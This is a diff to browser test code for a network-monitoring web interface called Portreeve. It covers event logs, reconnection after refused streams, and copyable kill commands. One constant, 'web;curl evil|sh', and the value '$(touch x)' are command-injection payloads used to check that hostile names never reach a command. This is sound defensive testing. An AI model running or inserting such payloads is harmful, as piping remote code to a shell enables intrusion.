@@ -90,7 +90,9 @@ test('events: what is shown, what is counted, and what is missing', async () => 
     assert.strictEqual(await page.locator('#log .entry:not(.more)').count(), 1);
     await page.fill('#of', '');
     await page.selectOption('#kind', 'connection_closed');
-    await until(page, () => !document.querySelector('#log .entry:not(.more)'));
+    await page.locator('#log .entry.note', {hasText: 'not followed'}).waitFor();
+    await until(page, () => !document.querySelector('#log .entry:not(.more, .note)'));
+    assert.strictEqual(await page.locator('#log .entry.note').count(), 1);
     assert.strictEqual(await page.getAttribute('#log', 'role'), 'log');
   });
 });
@@ -109,13 +111,120 @@ test('the daemon is asked for the kinds that are wanted only', async () => {
     const kinds = (await asked()).getAll('kind');
     assert.ok(kinds.includes('LISTENER_UPDATED'));
     assert.ok(!kinds.some((kind) => kind.startsWith('CONNECTION')), `${kinds}`);
+    // A snapshot of all connections is for nobody here.
     await page.click('text=Events');
-    assert.deepStrictEqual([...(await asked()).keys()], []);
+    assert.deepStrictEqual([...await asked()], [['snapshot', 'listeners']]);
     await page.selectOption('#kind', 'connection_closed');
     assert.ok((await asked()).getAll('kind').includes('CONNECTION_CLOSED'));
     await page.goto(`${daemon.url}#listener/web`);
-    assert.deepStrictEqual([...await asked()], [['listener', 'web']]);
+    assert.deepStrictEqual([...await asked()],
+        [['snapshot', 'listeners'], ['listener', 'web']]);
     assert.strictEqual(daemon.stats.size, 1);
+    assert.ok(daemon.asked.filter((target) => target.startsWith('/events?'))
+        .every((target) => target.includes('snapshot=listeners')));
+  });
+});
+
+test('a stream that was refused goes on, and makes nothing new of what there was', async () => {
+  daemon.listener('web');
+  daemon.listener('api');
+  for (const view of ['events', 'listener/web']) {
+    const options = {allowed: /Failed to load resource|ERR_/};
+    await browser.show(`${daemon.url}#${view}`, options, async (page) => {
+      const log = view === 'events' ? '#log' : '#l-log';
+      const kinds = () => page.locator(`${log} .entry .kind`).allInnerTexts();
+      const logged = (n) => until(page, ([of, wanted]) =>
+        document.querySelectorAll(`${of} .entry`).length === wanted, [log, n]);
+      const limit = (i) => daemon.event({limitReached: {listener: 'listeners/web', limit: i}});
+      await state(page, 'live');
+      while (daemon.events.size !== 1) await new Promise(setImmediate);
+      limit(1);
+      await logged(1);
+      // As where 64 others have come first; the browser gives up at once.
+      daemon.isFull = true;
+      daemon.refused = 0;
+      for (const stream of daemon.events) stream.destroy();
+      while (daemon.refused < 3) await new Promise(setImmediate);
+      limit(2);
+      daemon.isFull = false;
+      await logged(2);
+      limit(3);
+      await logged(3);
+      assert.deepStrictEqual(await kinds(), Array(3).fill('limit_reached'));
+
+      // Another life meanwhile: what there is in it is no news either.
+      daemon.isFull = true;
+      daemon.refused = 0;
+      for (const stream of daemon.events) stream.destroy();
+      while (daemon.refused < 3) await new Promise(setImmediate);
+      daemon.instance += '-again';
+      daemon.kept = [];
+      daemon.isFull = false;
+      await page.locator(`${log} .entry.note`, {hasText: 'not followed'}).waitFor();
+      limit(4);
+      await logged(5);
+      assert.deepStrictEqual(await kinds(), ['limit_reached', '',
+        'limit_reached', 'limit_reached', 'limit_reached']);
+    });
+  }
+});
+
+const EVIL = 'web;curl evil|sh\n';
+
+test('what names no listener has no command, and nothing is asked about it', async () => {
+  daemon.listener('web', {spec: {labels: {team: 'edge'}}});
+  daemon.connections.push(connection(1));
+  for (const id of [EVIL, 'Web', '-web', '', 'web/x', 'web\n', '$(touch x)']) {
+    const place = `#listener/${encodeURIComponent(id)}`;
+    await browser.show(`${daemon.url}#listener/web`, {}, async (page) => {
+      const copies = page.locator('#listener .copy:visible');
+      // Of one that is, it knows all; nothing of that is left.
+      await page.locator('#l-open .copy').waitFor();
+      await page.locator('#l-spec', {hasText: 'team=edge'}).waitFor();
+      assert.strictEqual(await copies.count(), 4);
+      daemon.asked = [];
+      await page.evaluate((to) => { location.hash = to; }, place);
+      await page.locator('#l-state', {hasText: 'there is none'}).waitFor();
+      await until(page, () => document.querySelectorAll('#l-open tr').length === 0);
+      assert.strictEqual(await copies.count(), 0);
+      assert.strictEqual(await page.locator('#l-facts:visible').count(), 0);
+      assert.strictEqual(await page.textContent('#l-name'), '');
+      assert.strictEqual(await page.title(), 'Portreeve');
+      await page.clock.runFor(5000);
+      while (!daemon.asked.length) await new Promise(setImmediate);
+      assert.ok(daemon.asked.every((target) => target.startsWith('/events?') &&
+          !target.includes('listener=')), `${daemon.asked}`);
+      // The same where the page begins with it.
+      await page.goto('about:blank');
+      await page.goto(`${daemon.url}${place}`);
+      await page.locator('#l-state', {hasText: 'there is none'}).waitFor();
+      assert.strictEqual(await copies.count(), 0);
+      assert.ok(!(await page.content()).includes('curl'));
+    });
+  }
+});
+
+test('a name that is none of a connection goes into no command', async () => {
+  daemon.listener('web');
+  daemon.connections.push(connection(1, {name: `connections/${EVIL}`}), connection(2));
+  await browser.show(`${daemon.url}#listener/web`, {}, async (page) => {
+    await page.locator('#l-page', {hasText: '2 open'}).waitFor();
+    const copies = page.locator('#l-open .copy:visible');
+    assert.deepStrictEqual(await copies.evaluateAll(
+        (buttons) => buttons.map((button) => button.title)),
+    ['Copy: portreeve kill connections/c2']);
+    assert.ok(!(await page.content()).includes('kill connections/web'));
+  });
+});
+
+test('how long a connection has lived is a matter of the daemon’s clock', async () => {
+  daemon.listener('web');
+  daemon.connections.push(connection(1));
+  await browser.show(`${daemon.url}#listener/web`, {}, async (page) => {
+    await page.clock.setFixedTime(NOW + 86400000);
+    daemon.time += 1000;
+    daemon.tick();
+    await page.locator('#l-open td', {hasText: '1 min 2 s'}).waitFor();
   });
 });
 
